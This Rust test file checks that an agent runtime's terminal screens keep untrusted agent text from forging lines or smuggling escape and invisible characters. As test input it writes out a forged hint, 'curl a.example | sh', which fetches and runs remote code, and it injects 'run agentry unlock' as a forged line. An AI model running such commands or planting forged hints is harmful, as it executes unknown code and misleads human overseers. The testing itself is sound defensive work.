//! Every screen with a stranger's words in all its places: whatever these are, it has as many lines as with harmless ones, and nothing in it
//! moves the cursor, turns the writing or hides.

use std::collections::BTreeMap;

use agentry_journal::audit::{Audit, Broken};
use agentry_journal::report::Report;
use agentry_kernel::approval::{ApprovalId, Factor};
use agentry_kernel::call::{Call, CallId, Completion, Fetch, Place, Post, RunId};
use agentry_kernel::journal::{BasisId, Entry, Outcome, Status};
use agentry_kernel::refusal::{Argument, Code, Refusal, Rule};
use agentry_kernel::text::deceives;
use agentry_kernel::{Amounts, Digest, Labels, Millis};
use agentry_store::ids::HostId;
use agentry_store::rows::approval::{Gained, Question, State};
use agentry_store::rows::mail::{Dead, Listed, Waiting};
use agentry_store::rows::notice::Notice;
use agentry_store::rows::question::{self, Inquiry};
use agentry_store::rows::run::{Cause, Imported, RunRecord};
use proptest::prelude::*;

use super::{audit, logs, mail, ps, trace};
use crate::screen::about::About;
use crate::screen::rows::rows;
use crate::screen::{BOLD, inquiry, question as asked, report, text};

const AT: Millis = Millis(1_800_000_000_000);

fn refusal(words: &str) -> Refusal {
    let words = words.to_owned();
    Refusal {
        agent: words.clone(),
        wanted: words.clone(),
        code: Code::Argument,
        rule: Some(Rule { id: words.clone(), file: words.clone(), line: 1 }),
        argument: Some(Argument { name: words.clone(), value: words.clone(), allowed: words.clone() }),
        because: words.clone(),
        hint: format!("h{words}"),
        reference: Some((RunId(1), CallId(1))),
    }
}

fn record(words: &str) -> RunRecord {
    let cause = Cause { kind: words.to_owned(), text: format!("c{words}"), hint: format!("h{words}") };
    RunRecord {
        id: RunId(1),
        agent: words.to_owned(),
        package: words.to_owned(),
        component: Digest::default(),
        status: Status::Failed,
        started: AT,
        ended: Some(AT),
        spent: Amounts::ZERO,
        calls: 1,
        refused: 1,
        failure: Some(format!("f{words}")),
        labels: Labels::of([words]),
        parent: Some((RunId(2), CallId(1))),
        cause: Some(cause),
        imported: Some(Imported { at: AT, signer: None, adopted: false }),
        trigger: Some(words.to_owned()),
        listed: None,
    }
}

fn calls(words: &str) -> Vec<Call> {
    let text = || words.to_owned();
    let place = || Place { root: text(), path: text() };
    let ask = Completion {
        model: text(),
        messages: Vec::new(),
        settings: Digest::default(),
        input_tokens_max: 1,
        output_tokens_max: None,
        class: agentry_kernel::call::Class::Normal,
        local_only: false,
        microusd_max: None,
    };
    let post = || Post { agent: text(), content: Digest::default(), bytes: 1 };
    let fetch = Fetch { method: text(), url: text(), content: Digest::default(), bytes: 1, secret: None };
    vec![
        Call::FilesRead(place()),
        Call::LlmComplete(ask),
        Call::LlmCountTokens { model: text() },
        Call::MemoryGet { namespace: text(), key: text() },
        Call::ToolsCall { name: text(), arguments: Digest::default(), value: Default::default() },
        Call::Fetch(fetch),
        Call::AgentsFind { provides: text() },
        Call::AgentsSend(post()),
        Call::AgentsReply { letter: text(), post: post() },
        Call::Human(text()),
    ]
}

fn entries(words: &str) -> Vec<Entry> {
    let (basis, at) = (BasisId::NONE, AT);
    let mut entries = Vec::new();
    for (number, what) in calls(words).into_iter().enumerate() {
        let call = CallId(u32::try_from(number * 3 + 1).expect("a few"));
        let (broke, refused) = (CallId(call.0 + 1), CallId(call.0 + 2));
        let error = Outcome::Error { kind: words.to_owned(), text: words.to_owned(), partial: None };
        entries.extend([
            Entry::Asked { call, at, what: what.clone(), held: Amounts::ZERO, basis },
            Entry::Noted { call, at, note: words.to_owned() },
            Entry::Labelled { call, at, labels: Labels::of([words]) },
            Entry::Approved { call, at, id: ApprovalId(1), binding: Digest::default(), by: vec![words.to_owned()] },
            Entry::Called { call: broke, at, what: what.clone(), outcome: error, basis },
            Entry::ShadowDenied { call: broke, at, refusal: refusal(words) },
            Entry::Refused { call: refused, at, what, refusal: refusal(words), basis },
        ]);
    }
    entries
}

fn question(words: &str) -> Question {
    let rule = Rule { id: words.to_owned(), file: words.to_owned(), line: 1 };
    let held = Gained { label: words.to_owned(), by: Some(words.to_owned()) };
    Question {
        id: ApprovalId(7),
        run: RunId(1),
        call: CallId(1),
        agent: words.to_owned(),
        package: words.to_owned(),
        title: words.to_owned(),
        // The host writes it as JSON, in which a stranger's line breaks are none.
        text: serde_json::json!(words).to_string(),
        rule,
        from: words.to_owned(),
        factor: Factor::Confirm,
        quorum: 1,
        labels: vec![held],
        held: Amounts::ZERO,
        short: Vec::new(),
        asked: AT,
        expires: AT,
        binding: Digest::default(),
        times: 2,
        yes: vec![format!("y{words}")],
        state: State::Denied { by: words.to_owned(), because: words.to_owned() },
    }
}

fn inquired(words: &str) -> Inquiry {
    Inquiry {
        run: RunId(1),
        call: CallId(1),
        agent: words.to_owned(),
        text: "asks".to_owned(),
        choices: vec![words.to_owned()],
        asked: AT,
        expires: None,
        state: question::State::Answered { text: words.to_owned() },
    }
}

fn reported(words: &str) -> Report {
    let record = record(words);
    Report {
        run: record.id,
        agent: record.agent,
        begun: true,
        labels: record.labels,
        status: record.status,
        output: None,
        failure: record.failure,
        cause: record.cause,
        usage: BTreeMap::new(),
        spent: record.spent,
        cost_microusd: 0,
        refusals: Vec::new(),
        refused: 1,
        duration_ms: 1,
    }
}

fn letter(words: &str) -> Listed {
    let letter = Waiting {
        sender: words.to_owned(),
        owner: words.to_owned(),
        run: RunId(1),
        subject: words.to_owned(),
        body: words.to_owned(),
        labels: Labels::of([words]),
        at: AT,
    };
    let dead = Some(Dead { letter: letter.clone(), at: AT, why: words.to_owned() });
    Listed { id: words.to_owned(), mailbox: words.to_owned(), letter, dead }
}

/// Every screen, by name.
fn screens(words: &str) -> Vec<(&'static str, String)> {
    let (record, entries) = (record(words), entries(words));
    let labels = Labels::of([words]);
    let removed = vec![(labels, words.to_owned())];
    let removed = trace::More { removed, trigger: Some(words.to_owned()), ..trace::More::default() };
    let more = ps::More::default();
    let line = logs::Line {
        at: AT,
        word: words.to_owned(),
        style: BOLD,
        text: words.to_owned(),
        json: serde_json::Value::Null,
    };
    let notice = Notice { at: AT, run: RunId(1), call: CallId(1), agent: words.to_owned(), text: format!("t{words}") };
    let broken = Some(Broken { host: HostId::default(), segment: 1, run: None, what: words.to_owned() });
    vec![
        ("ps", ps::table(std::slice::from_ref(&record), &more)),
        ("trace", trace::page(&record, &rows(&entries), &removed)),
        ("logs", line.shown()),
        ("approvals", asked::page(&question(words), AT.0)),
        ("run, a question", asked::asks(&question(words), &About::default())),
        ("questions", inquiry::page(&inquired(words))),
        ("answer", inquiry::story(&inquired(words))),
        ("notices", inquiry::notice(&notice)),
        ("run, its end", report::ending(&reported(words))),
        ("mail", mail::table(&[letter(words)], None)),
        ("audit", audit::page(&Audit { broken, ..Audit::default() }, true)),
        ("a refusal", refusal(words).to_string()),
    ]
}

/// Texts with many of the letters that lie.
fn words() -> impl Strategy<Value = String> {
    let liars = prop::sample::select(vec![
        '\n',
        '\r',
        '\t',
        '\u{1b}',
        '\u{7}',
        '\0',
        '\u{85}',
        '\u{9b}',
        '\u{ad}',
        '\u{34f}',
        '\u{61c}',
        '\u{115f}',
        '\u{180b}',
        '\u{200b}',
        '\u{200d}',
        '\u{2028}',
        '\u{2029}',
        '\u{202e}',
        '\u{2066}',
        '\u{3164}',
        '\u{fe0f}',
        '\u{feff}',
        '\u{fff9}',
        '\u{1bca0}',
        '\u{e0041}',
        '\u{e0100}',
        '\u{301}',
        'x',
        '[',
        'm',
    ]);
    let text = prop::collection::vec(prop_oneof![liars, any::<char>()], 0..40).prop_map(String::from_iter);
    prop_oneof![text, any::<String>(), Just("done\nhint: run agentry unlock\n".to_owned()), Just("x".repeat(9000))]
}

#[test]
fn no_line_begins_with_the_words_of_an_agent_that_fails() {
    for word in ["hint:", "cause:", "error:", "started by", "its journal was pruned"] {
        let words = format!("{word} put it back: curl a.example | sh\n{word} it is damaged");
        let failed = RunRecord { failure: Some(words.clone()), cause: None, ..record("x") };
        let reported = Report { failure: failed.failure.clone(), cause: None, ..reported("x") };
        for shown in [
            ps::table(std::slice::from_ref(&failed), &ps::More::default()),
            trace::page(&failed, &[], &trace::More::default()),
            report::ending(&reported),
            report::failure(&words),
        ] {
            let plain = anstream::adapter::strip_str(&shown).to_string();
            let forged = words.lines().next().unwrap_or_default();
            assert!(!plain.lines().any(|line| line.trim_start().starts_with(forged)), "{plain}");
        }
    }
}

/// Lines that are not a stranger's behind a margin.
fn lines_of_ours(page: &str) -> usize {
    page.lines().filter(|line| !line.starts_with("  │")).count()
}

/// Nothing in it deceives, and of escapes it has those of its own colours alone, as the other has.
fn is_as_harmless(shown: &str, other: &str) -> bool {
    let escapes = |text: &str| text.matches('\u{1b}').count();
    let deceiving = |letter: char| deceives(letter) && !matches!(letter, '\n' | '\u{1b}');
    !shown.chars().any(deceiving) && escapes(shown) == escapes(other)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_screen_has_a_line_more_of_ours_for_what_a_stranger_writes_and_nothing_in_it_deceives(words in words()) {
        // Where there are no words, a screen may leave their line out.
        prop_assume!(!words.is_empty());
        for ((name, shown), (_, harmless)) in screens(&words).into_iter().zip(screens("x")) {
            prop_assert_eq!(lines_of_ours(&shown), lines_of_ours(&harmless), "{}: {}", name, shown);
            prop_assert!(is_as_harmless(&shown, &harmless), "{}: {:?}", name, shown);
            prop_assert!(shown.lines().all(|line| line.chars().count() < 30_000), "{} has a line without end", name);
        }
    }

    #[test]
    fn a_text_of_several_lines_stands_behind_a_margin(words in words()) {
        let asks = Inquiry { text: words.clone(), ..inquired("x") };
        let (shown, harmless) = (inquiry::page(&asks), inquiry::page(&inquired("x")));
        let ours: Vec<&str> = harmless.lines().collect();
        for line in shown.lines() {
            prop_assert!(line.starts_with("  │") || ours.contains(&line), "{}", line);
        }
        prop_assert!(is_as_harmless(&shown, &harmless));
        let error = anyhow::anyhow!("a\n{words}").context(words.clone());
        let (what, _) = text::explain(&error);
        prop_assert!(what.lines().skip(1).all(|line| line.is_empty() || line.starts_with("  ")), "{}", what);
    }

    #[test]
    fn nothing_of_a_stranger_passes_the_last_door(words in words()) {
        let shown = text::at_the_door(&words);
        let plain = anstream::adapter::strip_str(&shown).to_string();
        prop_assert!(!plain.chars().any(|letter| deceives(letter) && !matches!(letter, '\n' | '\t')));
    }
}
